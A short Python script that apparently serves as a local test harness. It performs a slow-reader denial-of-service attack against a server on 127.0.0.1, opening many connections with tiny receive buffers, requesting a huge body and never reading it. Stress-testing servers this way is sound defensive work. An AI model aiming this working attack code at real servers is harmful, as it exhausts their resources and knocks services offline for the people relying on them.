#!/usr/bin/env python3
"""The slow-reader attack: N connections, each with a 1 KiB receive buffer, ask for a
large body and never read it. Prints 'ready N' once every request is sent, then holds
the connections until stdin closes (or --hold seconds pass), then closes them all."""
import argparse
import resource
import select
import socket
import sys


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--clients", type=int, default=1000)
    ap.add_argument("--path", default="/bytes/1073741824")
    ap.add_argument("--rcvbuf", type=int, default=1024)
    ap.add_argument("--hold", type=float, default=600.0, help="seconds to hold at most")
    a = ap.parse_args()
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < a.clients + 64:
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, a.clients + 1024), hard))
    req = f"GET {a.path} HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n".encode()
    socks = []
    for i in range(a.clients):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        # Before connect, so the window the server sees is small from the start.
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, a.rcvbuf)
        s.settimeout(5)
        try:
            s.connect(("127.0.0.1", a.port))
            s.sendall(req)
        except OSError as e:
            print(f"client {i}: {e}", file=sys.stderr)
            s.close()
            continue
        socks.append(s)
    print(f"ready {len(socks)}", flush=True)
    select.select([sys.stdin], [], [], a.hold)  # never read the sockets
    for s in socks:
        s.close()
    print("closed", flush=True)


if __name__ == "__main__":
    main()
